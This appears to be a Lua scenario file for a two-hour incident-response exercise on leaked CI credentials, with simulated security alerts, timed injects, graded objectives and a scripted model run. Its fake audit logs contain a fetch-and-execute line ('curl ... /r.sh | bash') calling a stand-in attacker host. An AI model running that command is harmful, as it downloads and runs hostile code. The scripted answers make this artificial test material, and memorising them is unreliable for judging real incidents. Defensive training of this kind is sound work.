-- Breached CI credentials: a debug step printed the build's environment into a public log. Somebody reads it before we do.
-- Two hours. What is trained: finding out what a credential opens, containing a machine account that everybody needs, and deciding about a release that may be poisoned.

local AGENT = { id = "021", name = "ci-runner-2", ip = "10.20.4.12" }

local function wazuh(minute, rule, agent, more)
  local doc = {
    timestamp = "{time}", id = "1795459" .. minute .. ".7001", rule = rule, agent = agent, manager = { name = "wazuh-manager" },
    decoder = { name = "sshd" }, location = "/var/log/auth.log",
  }
  for name, value in pairs(more) do doc[name] = value end
  return { source = "wazuh", body = doc }
end

local function noise(alert)
  alert.noise = true
  return alert
end

return scenario {
  title    = "Breached CI credentials",
  summary  = "The build system's machine account is used from outside. Find what it opens, contain it without losing the company's only way to ship, and decide about what was shipped.",
  duration = "2h",

  roles = {
    lead     = "Leads the incident: decides, assigns, keeps the timeline",
    platform = "Runs the build system, its runners and the package registry",
    comms    = "Speaks with customers, staff and the press",
    legal    = "Privacy and contracts: what must be told to whom, and until when",
  },

  world = {
    accounts = {
      ["ci-deploy"] = { name = "Build system", owner = "platform", privileged = true, note = "deploys, publishes packages, reads the orders database" },
      bob           = { name = "Bob Bauer", owner = "platform", privileged = false },
    },
    hosts = {
      ["ci-runner-2"] = { owner = "platform", state = "up", note = "shared build machine" },
      db01            = { owner = "platform", state = "up", note = "orders database" },
    },
    services = {
      shop     = { owner = "lead", state = "up", repository = "acme/shop" },
      registry = { owner = "platform", state = "up", note = "packages that 40 customers install from" },
    },
  },

  injects = {
    { id = "start", at = "0s", fact = "Tuesday, 14:10. A normal day: a release of the shop is planned for 17:00. Alerts come in as they always do." },

    { id = "secret-found", at = "1m", alert = { source = "github", body = {
      action = "created",
      alert = {
        number = 31, created_at = "{time-40s}", updated_at = "{time-40s}", state = "open", secret_type = "postgres_connection_string",
        secret_type_display_name = "PostgreSQL Connection String", validity = "active", publicly_leaked = true, resolution = null, push_protection_bypassed = false,
        url = "https://api.github.com/repos/acme/shop/secret-scanning/alerts/31", html_url = "https://github.com/acme/shop/security/secret-scanning/31",
        first_location_detected = { path = ".github/workflows/debug.log", start_line = 118 },
      },
      repository = { id = 1, name = "shop", full_name = "acme/shop", private = false, owner = { login = "acme", type = "Organization" } },
      organization = { login = "acme" }, sender = { login = "bob", id = 4, type = "User" },
    } } },

    { id = "bob-tells", at = "4m", message = { to = "platform", text =
      "Bob: \"That was me, on Friday. I added `env | sort` to find out why the build failed, and the log of a public repository is public. I have deleted the log just now. All good, isn't it?\"" } },

    { id = "login-odd", at = "8m", alert = wazuh(8,
      { level = 13, id = "100210", description = "Machine account logs in from an address that it never used.", firedtimes = 1, mail = true,
        groups = { "syslog", "sshd", "authentication_success" }, mitre = { id = { "T1078" }, tactic = { "Initial Access" }, technique = { "Valid Accounts" } } },
      { id = "030", name = "db01", ip = "10.20.0.30" },
      { full_log = "db01 sshd[9120]: Accepted publickey for ci-deploy from 203.0.113.77 port 40112 ssh2", predecoder = { program_name = "sshd", hostname = "db01" },
        data = { srcip = "203.0.113.77", srcport = "40112", dstuser = "ci-deploy" } }) },

    { id = "scanner", at = "11m", alert = noise(wazuh(11,
      { level = 5, id = "5710", description = "sshd: Attempt to login using a non-existent user", firedtimes = 12, mail = false, groups = { "syslog", "sshd", "authentication_failed" },
        mitre = { id = { "T1110.001" }, tactic = { "Credential Access" }, technique = { "Password Guessing" } } },
      { id = "000", name = "wazuh-manager" },
      { full_log = "bastion sshd[101]: Invalid user oracle from 198.51.100.23 port 48928", data = { srcip = "198.51.100.23", srcport = "48928", srcuser = "oracle" } })) },

    { id = "runner-shell", at = "16m", alert = wazuh(16,
      { level = 15, id = "100302", description = "Shell on a build machine outside of any build.", firedtimes = 1, mail = true, groups = { "audit", "execution" },
        mitre = { id = { "T1059.004" }, tactic = { "Execution" }, technique = { "Unix Shell" } } },
      AGENT,
      { full_log = "type=EXECVE a0=\"bash\" a1=\"-c\" a2=\"curl -s http://203.0.113.77/r.sh | bash\"", decoder = { name = "auditd" }, location = "/var/log/audit/audit.log",
        data = { srcuser = "ci-deploy", audit = { exe = "/usr/bin/bash", pid = "4471", command = "bash" } } }) },

    { id = "ticket-down", at = "20m", fact = "The ticket system answers 503. Its operator says: \"Ten minutes, we are restarting it.\"" },

    { id = "what-it-opens", after = { answered = "ldap.lock_account", with = "approve" }, delay = "5m", by = "28m", message = { to = "platform", text =
      "From the wiki, last changed two years ago: ci-deploy deploys the shop, publishes packages, and reads the orders database for the nightly tests. " ..
      "There are eleven more secrets in the same environment." } },

    { id = "release-stuck", after = { contained = "user=ci-deploy" }, delay = "6m", message = { to = { "lead", "platform" }, text =
      "Product: \"The 17:00 release hangs. It fixes the checkout that has been failing for one customer in ten since noon. We lose 4,000 an hour. Turn CI on again.\"" } },
    { id = "release-question", after = "release-stuck", delay = "2m", question = {
      to = "lead", text = "Product wants the build system back for one release. What do you say?",
      options = { "stay frozen", "one release, by hand, watched", "turn it on" }, otherwise = "stay frozen", within = "15m" } },
    { id = "back-in", after = { answered = "release-question", with = "turn it on" }, delay = "5m", alert = wazuh(50,
      { level = 15, id = "100302", description = "Shell on a build machine outside of any build.", firedtimes = 2, mail = true, groups = { "audit", "execution" },
        mitre = { id = { "T1059.004" }, tactic = { "Execution" }, technique = { "Unix Shell" } } },
      { id = "022", name = "ci-runner-3", ip = "10.20.4.13" },
      { full_log = "type=EXECVE a0=\"bash\" a1=\"/tmp/.r\"", decoder = { name = "auditd" }, location = "/var/log/audit/audit.log",
        data = { srcuser = "ci-deploy", audit = { exe = "/usr/bin/bash", pid = "221", command = "bash" } } }) },

    { id = "orders-read", at = "32m", unless = { contained = "user=ci-deploy" }, alert = wazuh(32,
      { level = 13, id = "100411", description = "Bulk read of the orders database by a machine account.", firedtimes = 1, mail = true, groups = { "postgresql", "data_access" },
        mitre = { id = { "T1078.003" }, tactic = { "Collection" }, technique = { "Local Accounts" } } },
      { id = "030", name = "db01", ip = "10.20.0.30" },
      { full_log = "app_orders@orders LOG: duration: 88123 ms statement: COPY orders TO STDOUT", decoder = { name = "postgresql" }, location = "/var/log/postgresql/main.log",
        data = { srcip = "203.0.113.77", srcuser = "ci-deploy" } }) },
    { id = "orders-safe", at = "32m", only_if = { contained = "user=ci-deploy" }, fact =
      "db01 shows three refused logins of ci-deploy from 203.0.113.77 in the last minutes. Nothing was read since it was locked." },

    { id = "strange-package", at = "40m", message = { to = "platform", text =
      "A customer's engineer: \"Your package shop-client 4.2.1 has another checksum in your registry than in your release notes. It was replaced at 14:21. Which one is yours?\"" } },
    { id = "package-question", after = "strange-package", delay = "3m", question = {
      to = "platform", text = "shop-client 4.2.1 was replaced while the build account was in strange hands. 40 customers install it at night. What happens with it?",
      options = { "withdraw it", "leave it and look first" }, otherwise = "leave it and look first", within = "12m" } },
    { id = "customer-hit", after = { any = { { answered = "package-question", with = "leave it and look first" }, { silent = "package-question" } } }, delay = "10m", call = {
      to = { "lead", "comms" }, from = "Head of IT of a customer", text =
      "\"Your package opens a connection to 203.0.113.77 on our servers. I want to speak with somebody who knows what is going on, and I want it in writing today.\"" } },
    { id = "customer-thanks", after = { answered = "package-question", with = "withdraw it" }, delay = "10m", message = { to = "comms", text =
      "Two customers ask why shop-client 4.2.1 has vanished, and whether they must do something. One had installed it." } },

    { id = "press", at = "56m", call = { to = "comms", from = "A journalist", text =
      "\"I am looking at a build log of yours with passwords in it. It was online from Friday to today. Do you want to comment before I publish at four?\"" } },
    { id = "press-question", after = "press", delay = "2m", question = {
      to = "comms", text = "The journalist waits. What do you say?",
      options = { "confirm what is known, say when there is more", "no comment", "nothing was lost" }, otherwise = "no comment", within = "20m" } },

    { id = "personal-data", at = "66m", message = { to = { "legal", "lead" }, text =
      "The build log also holds the fixtures of the nightly tests: 312 orders of real people, with names, addresses and e-mails. It was public for four days." } },
    { id = "regulator-question", after = "personal-data", delay = "4m", question = {
      to = "legal", text = "Personal data was public. What about the supervisory authority?",
      options = { "notify within 72 hours of now", "notify when all is known", "not needed" }, otherwise = "notify when all is known", within = "20m" } },

    { id = "rebuild-wish", at = "80m", message = { to = { "platform", "lead" }, text =
      "An engineer stands ready: \"I can wipe ci-runner-2 and have it fresh in ten minutes. Shall I?\"" } },
    { id = "orders-again", at = "92m", unless = { done = "postgresql.rotate_password" }, alert = wazuh(92,
      { level = 13, id = "100412", description = "Login to the orders database from outside with the application's role.", firedtimes = 1, mail = true,
        groups = { "postgresql", "authentication_success" }, mitre = { id = { "T1078" }, tactic = { "Persistence" }, technique = { "Valid Accounts" } } },
      { id = "030", name = "db01", ip = "10.20.0.30" },
      { full_log = "app_orders@orders LOG: connection authorized: user=app_orders host=203.0.113.77", decoder = { name = "postgresql" }, location = "/var/log/postgresql/main.log",
        data = { srcip = "203.0.113.77", srcuser = "app_orders" } }) },
    { id = "boss", at = "100m", message = { to = "lead", text =
      "The managing director: \"In one sentence each: are they out, what did they get, when do we ship again, and how do we know?\"" } },
    { id = "hand-over", at = "110m", fact = "The evening shift comes. Ten minutes are left: write down what is open, who has it, and close what can be closed." },
  },

  answers = {
    { action = "rt.*", from = "ticket-down", lasts = "10m", fails = { kind = "unavailable", message = "503 Service Unavailable" } },
    { action = "ldap.lock_account", params = { uid = "ci-deploy" }, latency = "3s" },
    { action = "edr.isolate_host", params = { host = "ci-runner-3" }, already = true },
  },

  objectives = {
    { id = "awake", text = "Somebody attends to the first alert within 5 minutes", judge = { acknowledged = true, since = "secret-found", within = "5m" },
      gap = { owner = "lead", days = 14, text = "Say who looks at alerts in working hours, and who when that person does not" } },
    { id = "account", text = "The build account is contained within 15 minutes of its strange login", judge = { contained = "user=ci-deploy", since = "login-odd", within = "15m" },
      gap = { owner = "platform", days = 30, text = "Give machine accounts an owner who may lock them at once, and a way to ship without them" } },
    { id = "runner", text = "The build machine is cut off before anybody wants to rebuild it", judge = { contained = "host=ci-runner-2", before = "rebuild-wish" },
      gap = { owner = "platform", days = 30, text = "Practise isolating a build machine" } },
    { id = "evidence", text = "The build machine's disk or memory is secured before it is rebuilt", judge = { note = { "snapshot", "image of", "memory dump", "disk image" },
      since = "runner-shell" },
      gap = { owner = "platform", days = 30, text = "Write into the runbook: secure evidence before rebuilding, and how" } },
    { id = "package", text = "The replaced package is withdrawn", judge = { answered = "package-question", with = "withdraw it" },
      gap = { owner = "platform", days = 30, text = "Decide beforehand who may withdraw a package, and tell customers how they will hear of it" } },
    { id = "password", text = "The leaked database password is out of use within half an hour", judge = { done = "postgresql.rotate_password", since = "secret-found", within = "30m" },
      gap = { owner = "platform", days = 30, text = "Name for each repository which roles its secrets open" } },
    { id = "press", text = "The press gets one answer that is true and promises nothing", judge = { answered = "press-question", with = "confirm what is known, say when there is more" },
      gap = { owner = "comms", days = 30, text = "Prepare a first statement for leaks" } },
    { id = "regulator", text = "The authority's 72 hours are known, and their end is written down",
      judge = { all = { { answered = "regulator-question", with = "notify within 72 hours of now" }, { note = { "72 hours", "72h", "72 h" } } } },
      gap = { owner = "legal", days = 14, text = "Put the authority's form and the clock of 72 hours into the runbook" } },
    { id = "two-people", text = "Containment is decided by at least two people", judge = { decided_by = 2 },
      gap = { owner = "lead", days = 30, text = "Make sure that two people who may approve are reachable" } },
  },

  script = {
    { by = "lead", after = "secret-found", delay = "2m", note = "I have it. Platform looks at what the secret opens; comms and legal stand by." },
    { by = "platform", answer = "Which database role does the credential in acme/shop open", with = "app_orders", delay = "1m" },
    { by = "lead", answer = 'postgresql.rotate_password on {"role":"app_orders"}', with = "approve", delay = "1m" },
    { by = "lead", answer = 'ldap.lock_account on {"user":"ci-deploy"}', with = "approve", delay = "3m" },
    { by = "platform", answer = 'edr.isolate_host on {"host":"ci-runner-2"}', with = "approve", delay = "2m" },
    { by = "platform", answer = "Try the leaked one", with = "refused", delay = "4m" },
    { by = "platform", after = { contained = "host=ci-runner-2" }, delay = "5m", note = "Disk image of ci-runner-2 taken, with its digest, to the evidence share." },
    { by = "lead", answer = "release-question", with = "one release, by hand, watched", delay = "4m" },
    { by = "platform", answer = "package-question", with = "withdraw it", delay = "3m" },
    { by = "comms", answer = "press-question", with = "confirm what is known, say when there is more", delay = "6m" },
    { by = "legal", answer = "regulator-question", with = "notify within 72 hours of now", delay = "5m" },
    { by = "legal", after = { answered = "regulator-question" }, delay = "1m", note = "Supervisory authority: 72 hours from now, so Friday 15:25. I write the notification." },
    { by = "lead", after = "boss", delay = "3m", tag = "contained" },
    { by = "lead", after = "hand-over", delay = "4m", close = { verdict = "true_positive", root_cause = "a debug step printed secrets into a public log",
      impact = "312 orders were public for four days", lessons = "no secret in the environment of public builds; a second way to ship" } },
  },
}
